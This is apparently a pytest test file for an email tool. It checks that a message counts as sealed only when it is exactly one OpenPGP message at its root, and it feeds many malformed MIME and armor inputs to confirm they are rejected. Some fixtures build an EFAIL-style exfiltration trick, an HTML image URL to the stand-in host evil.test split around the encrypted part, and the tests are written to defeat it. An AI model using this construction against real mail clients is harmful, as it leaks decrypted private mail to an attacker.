"""Sealed is exactly one OpenPGP message at the root, and nothing beside it (A01, A03, A06, A10)."""

from __future__ import annotations

import base64
import subprocess
import sys

import pytest

from dearly.letter.errors import Usage
from dearly.letter.sealing import Shape
from dearly.mime.pgpmime import sealed_shape, sealed_slice, shape, wrap
from dearly.mime.plain import quote
from dearly.mime.read import outline, readable
from tests.support.fake_letters import fake_letter
from tests.support.letters import ADA, BERT, DORA, a_letter
from tests.support.parcels import (
    HEAD,
    MARKER,
    armored,
    html,
    multi,
    packet,
    part,
    partial_packet,
    sealed,
    sealed_bytes,
    sealed_part,
    text,
)

ARMOR = armored(sealed_bytes())
EXACT = ARMOR.rstrip()


def test_what_we_write_is_sealed() -> None:
    raw = wrap(a_letter(), ARMOR, ADA.address)
    assert shape(raw) == (Shape.SEALED, EXACT)
    found = sealed_slice(raw)
    assert found is not None
    assert found.of(raw) == EXACT
    assert sealed_shape(raw)


def test_what_we_write_for_everyone_passes_the_office() -> None:
    for letter in (a_letter(to=(BERT, DORA)), a_letter(subject="", to=(BERT,) * 200)):
        assert sealed_shape(wrap(letter, ARMOR, ADA.address))
    assert sealed_shape(fake_letter(1, size=70_000).data)


def test_nobody_else_can_be_named_outside() -> None:
    with pytest.raises(Usage) as caught:
        wrap(a_letter(), ARMOR, BERT.address)
    assert caught.value.code == "sender_differs"


SEALED = {
    "plainly": sealed(),
    "with a preamble": sealed().replace(b"\r\n--SS\r\n", b"\r\nThis is sealed.\r\n--SS\r\n", 1),
    "with LF line ends": sealed().replace(b"\r\n", b"\n"),
    "with armor headers": sealed(armored(sealed_bytes(), head=b"Version: GnuPG v2\r\nComment: x\r\n")),
    "without checksum": sealed(armored(sealed_bytes(), crc=False)),
    "the protocol in capitals": sealed().replace(b"application/pgp-encrypted", b"APPLICATION/PGP-Encrypted"),
    "inline": text(b"us-ascii", ARMOR),
    "inline between empty lines": text(b"us-ascii", b"\r\n \r\n" + ARMOR + b"\r\n\r\n"),
    "inline without a type": HEAD + b"\r\n" + ARMOR,
}


@pytest.mark.parametrize("case", SEALED)
def test_sealed(case: str) -> None:
    raw = SEALED[case]
    kind, found = shape(raw)
    place = sealed_slice(raw)
    assert kind is Shape.SEALED
    assert found is not None
    assert place is not None
    assert place.of(raw) == found
    assert (found[:27], found[-25:]) == (b"-----BEGIN PGP MESSAGE-----", b"-----END PGP MESSAGE-----")


@pytest.mark.parametrize("encoding", [b"base64", b"quoted-printable"])
def test_sealed_and_encoded_on_the_way(encoding: bytes) -> None:
    body = base64.encodebytes(ARMOR) if encoding == b"base64" else ARMOR.replace(b"=", b"=3D")
    raw = sealed().replace(b"octet-stream\r\n", b"octet-stream\r\nContent-Transfer-Encoding: " + encoding + b"\r\n")
    raw = raw.replace(ARMOR, body)
    assert shape(raw) == (Shape.SEALED, EXACT)
    assert sealed_slice(raw) is None


OPENING = part(b"text/html", b'<img src="https://evil.test/?')
CLOSING = part(b"text/html", b'">')

NOT_SEALED = {
    # A01: the sealed part between two halves of a picture's address
    "between two halves": (multi(b"multipart/mixed", OPENING, sealed_part(ARMOR), CLOSING), Shape.PLAIN),
    "a third part": (sealed()[: -len(b"--SS--\r\n")] + b"--SS\r\n" + CLOSING + b"\r\n--SS--\r\n", Shape.MALFORMED),
    # A06: sealed parts wrapped, appended, hidden or attached
    "wrapped": (multi(b"multipart/mixed", sealed_part(ARMOR)), Shape.PLAIN),
    "appended": (multi(b"multipart/mixed", part(b"text/plain", b"hello"), sealed_part(ARMOR)), Shape.PLAIN),
    "hidden as a related part": (
        multi(b"multipart/related", part(b"text/html", b"hello"), sealed_part(ARMOR)),
        Shape.PLAIN,
    ),
    "attached as a message": (multi(b"multipart/mixed", part(b"message/rfc822", sealed())), Shape.PLAIN),
    "loose parts": (
        multi(
            b"multipart/mixed",
            part(b"application/pgp-encrypted", b"Version: 1"),
            part(b"application/octet-stream", ARMOR),
        ),
        Shape.PLAIN,
    ),
    "sealed in sealed": (
        sealed(b"").replace(
            b"application/octet-stream\r\n\r\n",
            b"multipart/mixed; boundary=I\r\n\r\n--I\r\n" + sealed_part(ARMOR, b"J") + b"\r\n--I--\r\n",
        ),
        Shape.MALFORMED,
    ),
    # A10: text around the armor, two armors, junk in its head
    "text before": (text(b"utf-8", b"hello\r\n" + ARMOR), Shape.PLAIN),
    "text after": (text(b"utf-8", ARMOR + b"hello\r\n"), Shape.PLAIN),
    "two armors": (text(b"utf-8", ARMOR + ARMOR), Shape.PLAIN),
    "armor in html": (html(ARMOR.decode()), Shape.PLAIN),
    "junk in the armor's head": (sealed(armored(sealed_bytes(), head=b"Hash: x\r\nhello there\r\n")), Shape.MALFORMED),
    "text in the armor's first line": (
        sealed(ARMOR.replace(b"MESSAGE-----\r\n", b"MESSAGE-----Comment: x\r\n", 1)),
        Shape.MALFORMED,
    ),
    "no empty line": (sealed(ARMOR.replace(b"\r\n\r\n", b"\r\n", 1)), Shape.MALFORMED),
    "text within the armor": (sealed(ARMOR.replace(b"\r\n=", b"\r\nhello there\r\n=", 1)), Shape.MALFORMED),
    "nothing in the armor": (
        sealed(b"-----BEGIN PGP MESSAGE-----\r\n\r\n-----END PGP MESSAGE-----\r\n"),
        Shape.MALFORMED,
    ),
    "a signed message": (sealed(ARMOR.replace(b"PGP MESSAGE", b"PGP SIGNED MESSAGE")), Shape.MALFORMED),
    "a certificate": (sealed(ARMOR.replace(b"PGP MESSAGE", b"PGP PUBLIC KEY BLOCK")), Shape.MALFORMED),
    "text after, in parts": (sealed(ARMOR + b"hello"), Shape.MALFORMED),
    "binary": (sealed(sealed_bytes()), Shape.MALFORMED),
    "another protocol": (
        sealed().replace(b'"application/pgp-encrypted"', b'"application/pkcs7-mime"'),
        Shape.MALFORMED,
    ),
    "no protocol": (sealed().replace(b' protocol="application/pgp-encrypted";', b""), Shape.MALFORMED),
    "the parts turned around": (
        multi(
            b'multipart/encrypted; protocol="application/pgp-encrypted"',
            part(b"application/octet-stream", ARMOR),
            part(b"application/pgp-encrypted", b"Version: 1"),
        ),
        Shape.MALFORMED,
    ),
    "another version": (sealed().replace(b"Version: 1", b"Version: 2"), Shape.MALFORMED),
    "no parts": (
        HEAD + b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=B\r\n\r\nx',
        Shape.MALFORMED,
    ),
    "a letter": (text(b"utf-8", b"Dear Bert,"), Shape.PLAIN),
    "nothing": (b"", Shape.PLAIN),
}


@pytest.mark.parametrize("case", NOT_SEALED)
def test_not_sealed(case: str) -> None:
    raw, kind = NOT_SEALED[case]
    assert shape(raw) == (kind, None)
    assert sealed_slice(raw) is None
    assert not sealed_shape(raw)


def test_parts_are_never_joined() -> None:
    """A01: the text of each part is made by itself; a half tag in one swallows nothing of the other."""
    raw = multi(b"multipart/mixed", OPENING, part(b"text/plain", MARKER.encode()), CLOSING)
    body = readable(raw, outline(raw))
    assert "evil.test" not in body.text
    assert body.html is not None
    assert MARKER not in body.html


def test_sealed_parts_below_the_root_are_closed_enclosures() -> None:
    """A03: an answer quotes the text, and nothing of a sealed part or attached letter is in it."""
    raw = multi(
        b"multipart/mixed",
        part(b"text/plain", b"What's up?"),
        sealed_part(armored(MARKER.encode())),
        part(b"message/rfc822", HEAD + b"\r\n" + MARKER.encode()),
        part(b"message/rfc822; x=y", sealed(), b"Content-Disposition: inline"),
    )
    body = readable(raw, outline(raw))
    assert quote(body.text) == "> What's up?\n"
    assert [one.media_type for one in body.enclosures] == ["multipart/encrypted", "message/rfc822", "message/rfc822"]


OFFICE_REFUSES = {
    "a bare LF": sealed().replace(b"\r\n=", b"\n=", 1),
    "a bare CR": sealed().replace(b"\r\n=", b"\r=", 1),
    "LF line ends": sealed().replace(b"\r\n", b"\n"),
    "a preamble": SEALED["with a preamble"],
    "an epilogue": sealed() + b"hello\r\n",
    "armor headers": SEALED["with armor headers"],
    "inline": SEALED["inline"],
    "two types": sealed(head=HEAD + b"Content-Type: text/plain\r\n"),
    "an encoding": sealed(head=HEAD + b"Content-Transfer-Encoding: base64\r\n"),
    "an encoded part": sealed().replace(b"octet-stream\r\n", b"octet-stream\r\nContent-Transfer-Encoding: base64\r\n"),
    "two boundaries": sealed().replace(b'boundary="SS"', b'boundary="SS"; boundary="TT"'),
    "a line that is no field": sealed(head=HEAD + b"hello there\r\n"),
    "no key packet": sealed(armored(sealed_bytes(keys=0))),
    "too many key packets": sealed(armored(sealed_bytes(keys=129))),
    "a huge key packet": sealed(armored(packet(1, b"\6" * 20_000) + sealed_bytes())),
    "a literal": sealed(armored(packet(1, b"\6" * 20) + packet(11, b"b\0\0\0\0\0hello"))),
    "tag 9": sealed(armored(packet(1, b"\6" * 20) + packet(9, b"x" * 200))),
    "something after": sealed(armored(sealed_bytes() + packet(11, b"hello"))),
    "cut": sealed(armored(sealed_bytes()[:-1])),
    "an unknown version": sealed(armored(packet(1, b"\6" * 20) + packet(18, b"\x03" + b"x" * 200))),
    "partial lengths that begin small": sealed(
        armored(packet(1, b"\6" * 20) + partial_packet(18, b"\2" + b"x" * 3000, 8))
    ),
    "partial lengths, cut": sealed(armored(sealed_bytes(5000, partial=True)[:-7])),
    "no base64": sealed(ARMOR.replace(b"\r\n\r\nw", b"\r\n\r\n!", 1)),
    "padding inside": sealed(ARMOR.replace(b"ERER", b"ER==", 1)),
    "nothing": b"",
    "only line ends": b"\r\n" * 1000,
    "no boundary": sealed().replace(b'; boundary="SS"', b""),
}


@pytest.mark.parametrize("case", OFFICE_REFUSES)
def test_the_office_refuses(case: str) -> None:
    assert not sealed_shape(OFFICE_REFUSES[case])


@pytest.mark.parametrize("partial", [False, True])
@pytest.mark.parametrize("size", [0, 1, 2, 100, 500, 511, 512, 513, 8000, 9000, 100_000])
def test_the_office_takes(size: int, partial: bool) -> None:
    for crc in (True, False):
        for keys in (1, 128):
            assert sealed_shape(sealed(armored(sealed_bytes(size, keys, partial=partial), crc=crc)))


def test_the_office_takes_old_packet_headers_and_a_passphrase() -> None:
    """GnuPG writes the headers of key packets in the old way."""
    old = b"\x85\x00\x14" + b"\3" * 20 + packet(3, b"\4" * 20) + packet(18, b"\1" + b"x" * 200)
    assert sealed_shape(sealed(armored(old)))
    assert not sealed_shape(sealed(armored(b"\x87" + b"\3" * 20 + packet(18, b"\1" + b"x" * 200))))


def test_the_server_loads_no_mail_parser() -> None:
    code = "import sys, dearly.mime.pgpmime; print({'email', 'selectolax', 'markdown_it'} & set(sys.modules))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "set()\n"
